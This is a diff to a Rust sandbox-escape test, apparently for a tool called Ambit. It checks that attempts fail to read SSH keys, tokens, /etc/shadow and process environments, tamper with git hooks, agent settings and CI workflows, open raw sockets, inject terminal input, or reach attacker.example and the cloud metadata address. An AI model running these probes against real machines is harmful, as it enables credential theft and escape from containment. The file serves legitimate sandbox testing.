@@ -43,23 +43,31 @@ const ATTEMPTS: &[(&str, Attempt)] = &[
     ("hard link from outside", |p| fs::hard_link(p.outside.join("secret"), p.project.join("hard")).is_ok()),
     ("hard link of a system file", |p| fs::hard_link("/etc/passwd", p.project.join("hard2")).is_ok()),
     ("read a secret outside", |p| reads(&p.outside.join("secret"), "prize")),
-    ("read it through this process's root", |p| reads(&under("/proc/self/root", &p.outside.join("secret")), "prize")),
+    ("read it through this process's root", |p| {
+        reads(&under("/proc/self/root", &p.outside.join("secret")), "prize")
+    }),
     ("read it through init's root", |p| reads(&under("/proc/1/root", &p.outside.join("secret")), "prize")),
     ("read it through a host process's root", |p| {
         reads(&under(&format!("/proc/{}/root", p.process), &p.outside.join("secret")), "prize")
     }),
     ("write through this process's root", |p| writes(&under("/proc/self/root", &p.outside.join("via-root")))),
-    ("climb with dots", |p| reads(&p.project.join("../".repeat(12)).join(&under_root(&p.outside)).join("secret"), "prize")),
+    ("climb with dots", |p| {
+        reads(&p.project.join("../".repeat(12)).join(&under_root(&p.outside)).join("secret"), "prize")
+    }),
     ("read a credential of the home", |p| reads(&p.home.join(".ssh/id_ed25519"), "prize")),
     ("read a token of the home", |p| reads(&p.home.join(".cargo/credentials.toml"), "prize")),
     ("read a login of the home", |p| reads(&p.home.join(".netrc"), "prize")),
     ("read a token in settings", |p| reads(&p.home.join(".npmrc"), "prize")),
     ("read the project's secrets", |p| reads(&p.project.join(".env"), "prize")),
     ("read the machine's passwords", |_| reads(Path::new("/etc/shadow"), ":")),
-    ("read another process's environment", |p| reads(Path::new(&format!("/proc/{}/environ", p.process)), "prize")),
+    ("read another process's environment", |p| {
+        reads(Path::new(&format!("/proc/{}/environ", p.process)), "prize")
+    }),
     ("read init's environment", |_| reads(Path::new("/proc/1/environ"), "=")),
     ("read init's memory", |_| fs::File::open("/proc/1/mem").is_ok()),
-    ("write a system file", |_| writes(Path::new("/usr/bin/ambit-escape")) || writes(Path::new("/etc/ambit-escape"))),
+    ("write a system file", |_| {
+        writes(Path::new("/usr/bin/ambit-escape")) || writes(Path::new("/etc/ambit-escape"))
+    }),
     ("replace a system file", |_| fs::remove_file("/etc/passwd").is_ok() || writes(Path::new("/etc/passwd"))),
     ("change git's configuration", |p| writes(&p.project.join(".git/config"))),
     ("remove git's configuration", |p| fs::remove_file(p.project.join(".git/config")).is_ok()),
@@ -69,7 +77,9 @@ const ATTEMPTS: &[(&str, Attempt)] = &[
         fs::rename(&made, p.project.join(".git/config")).is_ok()
     }),
     ("make a git hook", |p| writes(&p.project.join(".git/hooks/pre-commit"))),
-    ("move the hooks away", |p| fs::rename(p.project.join(".git/hooks"), p.project.join(".git/hooks2")).is_ok()),
+    ("move the hooks away", |p| {
+        fs::rename(p.project.join(".git/hooks"), p.project.join(".git/hooks2")).is_ok()
+    }),
     ("move the repository away", |p| fs::rename(p.project.join(".git"), p.project.join("git2")).is_ok()),
     ("exchange the repository", |p| {
         let other = p.project.join("other-git");
@@ -78,9 +88,13 @@ const ATTEMPTS: &[(&str, Attempt)] = &[
     }),
     ("change an agent's settings", |p| writes(&p.project.join(".claude/settings.json"))),
     ("add to an agent's settings", |p| writes(&p.project.join(".claude/settings.local.json"))),
-    ("move an agent's settings away", |p| fs::rename(p.project.join(".claude"), p.project.join("c2")).is_ok()),
+    ("move an agent's settings away", |p| {
+        fs::rename(p.project.join(".claude"), p.project.join("c2")).is_ok()
+    }),
     ("change a workflow", |p| writes(&p.project.join(".github/workflows/ci.yml"))),
-    ("move the workflows' parent away", |p| fs::rename(p.project.join(".github"), p.project.join("g2")).is_ok()),
+    ("move the workflows' parent away", |p| {
+        fs::rename(p.project.join(".github"), p.project.join("g2")).is_ok()
+    }),
     ("set the user bit", |p| {
         let own = p.project.join("tool");
         let _ = fs::write(&own, "x");
@@ -99,7 +113,9 @@ const ATTEMPTS: &[(&str, Attempt)] = &[
         let path = text(&p.project.join("disk"));
         call(libc::SYS_mknodat, [at_cwd(), addr(&path), i64::from(libc::S_IFBLK) | 0o600, 0xfe00, 0, 0]) == 0
     }),
-    ("open the disk", |_| ["/dev/vda", "/dev/sda", "/dev/mem", "/dev/kmsg"].iter().any(|d| fs::File::open(d).is_ok())),
+    ("open the disk", |_| {
+        ["/dev/vda", "/dev/sda", "/dev/mem", "/dev/kmsg"].iter().any(|d| fs::File::open(d).is_ok())
+    }),
     ("change the core pattern", |_| opens("/proc/sys/kernel/core_pattern")),
     ("press a magic key", |_| opens("/proc/sysrq-trigger")),
     ("raise the bound of processes", |_| opens("/proc/sys/kernel/pid_max")),
@@ -107,7 +123,9 @@ const ATTEMPTS: &[(&str, Attempt)] = &[
     ("unmount a cover", |_| call(libc::SYS_umount2, [addr(&c("/etc/shadow")), 2, 0, 0, 0, 0]) == 0),
     ("copy a mount", |_| call(libc::SYS_open_tree, [at_cwd(), addr(&c("/")), 1, 0, 0, 0]) >= 0),
     ("change the root", |_| call(libc::SYS_chroot, [addr(&c("/tmp")), 0, 0, 0, 0, 0]) == 0),
-    ("make a user namespace", |_| call(libc::SYS_unshare, [i64::from(libc::CLONE_NEWUSER), 0, 0, 0, 0, 0]) == 0),
+    ("make a user namespace", |_| {
+        call(libc::SYS_unshare, [i64::from(libc::CLONE_NEWUSER), 0, 0, 0, 0, 0]) == 0
+    }),
     ("clone into a user namespace", |_| {
         let flags = i64::from(libc::CLONE_NEWUSER | libc::SIGCHLD);
         cloned(call(libc::SYS_clone, [flags, 0, 0, 0, 0, 0]))
@@ -134,14 +152,20 @@ const ATTEMPTS: &[(&str, Attempt)] = &[
     }),
     ("keys", |_| call(libc::SYS_keyctl, [0, -3, 1, 0, 0, 0]) >= 0),
     ("userfaultfd", |_| call(libc::SYS_userfaultfd, [1, 0, 0, 0, 0, 0]) >= 0),
-    ("open by handle", |_| call(libc::SYS_open_by_handle_at, [at_cwd(), 0, 0, 0, 0, 0]) >= 0 || denied_otherwise()),
+    ("open by handle", |_| {
+        call(libc::SYS_open_by_handle_at, [at_cwd(), 0, 0, 0, 0, 0]) >= 0 || denied_otherwise()
+    }),
     ("a raw socket", |_| socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_ICMP)),
     ("a packet socket", |_| socket(libc::AF_PACKET, libc::SOCK_RAW, 0)),
     ("a vsock", |_| socket(libc::AF_VSOCK, libc::SOCK_STREAM, 0)),
-    ("netlink past routes", |_| socket(libc::AF_NETLINK, libc::SOCK_RAW, 9) || socket(libc::AF_NETLINK, libc::SOCK_RAW, 16)),
+    ("netlink past routes", |_| {
+        socket(libc::AF_NETLINK, libc::SOCK_RAW, 9) || socket(libc::AF_NETLINK, libc::SOCK_RAW, 16)
+    }),
     ("the kernel's crypto", |_| socket(libc::AF_ALG, libc::SOCK_SEQPACKET, 0)),
     ("a host's port", |p| connects(&format!("127.0.0.1:{}", p.port))),
-    ("a host's port by IPv6", |p| connects(&format!("[::1]:{}", p.port)) || connects(&format!("[::ffff:127.0.0.1]:{}", p.port))),
+    ("a host's port by IPv6", |p| {
+        connects(&format!("[::1]:{}", p.port)) || connects(&format!("[::ffff:127.0.0.1]:{}", p.port))
+    }),
     ("a host's port by any address", |p| connects(&format!("0.0.0.0:{}", p.port))),
     ("send a datagram to the host", |p| {
         if let Ok(socket) = UdpSocket::bind("0.0.0.0:0") {
@@ -157,11 +181,17 @@ const ATTEMPTS: &[(&str, Attempt)] = &[
         UnixAddr::from_abstract_name(&p.abstract_name).and_then(|a| UnixStream::connect_addr(&a)).is_ok()
     }),
     ("a local datagram to the system's log", |_| {
-        UnixDatagram::unbound().is_ok_and(|s| s.send_to(b"x", "/dev/log").is_ok() || s.send_to(b"x", "/run/systemd/journal/socket").is_ok())
+        UnixDatagram::unbound().is_ok_and(|s| {
+            s.send_to(b"x", "/dev/log").is_ok() || s.send_to(b"x", "/run/systemd/journal/socket").is_ok()
+        })
     }),
-    ("look up a name that is not allowed", |_| ("exfiltrated-data.attacker.example", 443).to_socket_addrs().is_ok()),
+    ("look up a name that is not allowed", |_| {
+        ("exfiltrated-data.attacker.example", 443).to_socket_addrs().is_ok()
+    }),
     ("fetch past the rules", |_| {
-        fetches("http://attacker.example/") || fetches("http://169.254.169.254/") || fetches("http://2130706433/")
+        fetches("http://attacker.example/")
+            || fetches("http://169.254.169.254/")
+            || fetches("http://2130706433/")
             || fetches("http://[::ffff:169.254.169.254]/")
     }),
     ("a name with a NUL by SOCKS", |_| socks(b"attacker.example\0.allowed.example")),
@@ -173,14 +203,25 @@ const ATTEMPTS: &[(&str, Attempt)] = &[
     }),
     ("type into the terminal", |_| {
         let byte = [b'x'];
-        (0..3).any(|fd| call(libc::SYS_ioctl, [fd, i64::try_from(libc::TIOCSTI).unwrap_or(0), byte.as_ptr() as i64, 0, 0, 0]) == 0)
+        (0..3).any(|fd| {
+            call(
+                libc::SYS_ioctl,
+                [fd, i64::try_from(libc::TIOCSTI).unwrap_or(0), byte.as_ptr() as i64, 0, 0, 0],
+            ) == 0
+        })
     }),
     ("a call by the x32 convention", |_| survives(|| call(0x4000_0000 + 39, [0; 6]) > 0)),
     ("gain rights by a program with the user bit", |_| {
-        std::process::Command::new("su").args(["-c", "id -u"]).stdin(std::process::Stdio::null()).output().is_ok_and(|o| o.status.success())
+        std::process::Command::new("su")
+            .args(["-c", "id -u"])
+            .stdin(std::process::Stdio::null())
+            .output()
+            .is_ok_and(|o| o.status.success())
             && !is_root()
     }),
-    ("variables that were not listed", |_| std::env::var_os("AWS_SECRET_ACCESS_KEY").is_some() || std::env::var_os("SSH_AUTH_SOCK").is_some()),
+    ("variables that were not listed", |_| {
+        std::env::var_os("AWS_SECRET_ACCESS_KEY").is_some() || std::env::var_os("SSH_AUTH_SOCK").is_some()
+    }),
     ("sockets of agents and daemons", |_| {
         ["/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket", "/run/podman/podman.sock"]
             .iter()
@@ -212,7 +253,8 @@ fn main() {
         abstract_name: std::env::var("PYTEST_ESCAPE_ABSTRACT").unwrap_or_default(),
     };
     let mut out = io::stdout();
-    for (name, attempt) in ATTEMPTS {
+    let skip = std::env::var("PYTEST_ESCAPE_SKIP").unwrap_or_default();
+    for (name, attempt) in ATTEMPTS.iter().filter(|(n, _)| !skip.split('|').any(|s| s == *n)) {
         if attempt(&prizes) {
             let _ = writeln!(out, "ESCAPED: {name}");
         }
@@ -221,7 +263,12 @@ fn main() {
 }
 
 fn writes(path: &Path) -> bool {
-    OpenOptions::new().create(true).append(true).open(path).and_then(|mut f| f.write_all(b"escaped\n")).is_ok()
+    OpenOptions::new()
+        .create(true)
+        .append(true)
+        .open(path)
+        .and_then(|mut f| f.write_all(b"escaped\n"))
+        .is_ok()
 }
 
 fn opens(path: &str) -> bool {
@@ -231,7 +278,10 @@ fn opens(path: &str) -> bool {
 fn reads(path: &Path, prize: &str) -> bool {
     let mut bytes = Vec::new();
     let read = fs::File::open(path).and_then(|f| f.take(1 << 16).read_to_end(&mut bytes));
-    read.is_ok() && String::from_utf8_lossy(&bytes).lines().any(|l| l.contains(prize) && !l.contains("Withheld by Ambit"))
+    read.is_ok()
+        && String::from_utf8_lossy(&bytes)
+            .lines()
+            .any(|l| l.contains(prize) && !l.contains("Withheld by Ambit"))
 }
 
 fn under(root: &str, path: &Path) -> PathBuf {
@@ -254,7 +304,8 @@ fn fetches(url: &str) -> bool {
     let Ok(mut stream) = TcpStream::connect("127.0.0.1:3128") else { return false };
     let _ = stream.set_read_timeout(Some(Duration::from_secs(5)));
     let host = url.trim_start_matches("http://").trim_end_matches('/');
-    let _ = stream.write_all(format!("GET {url} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n").as_bytes());
+    let _ = stream
+        .write_all(format!("GET {url} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n").as_bytes());
     let mut answer = String::new();
     let _ = stream.read_to_string(&mut answer);
     answer.starts_with("HTTP/1.1 2")
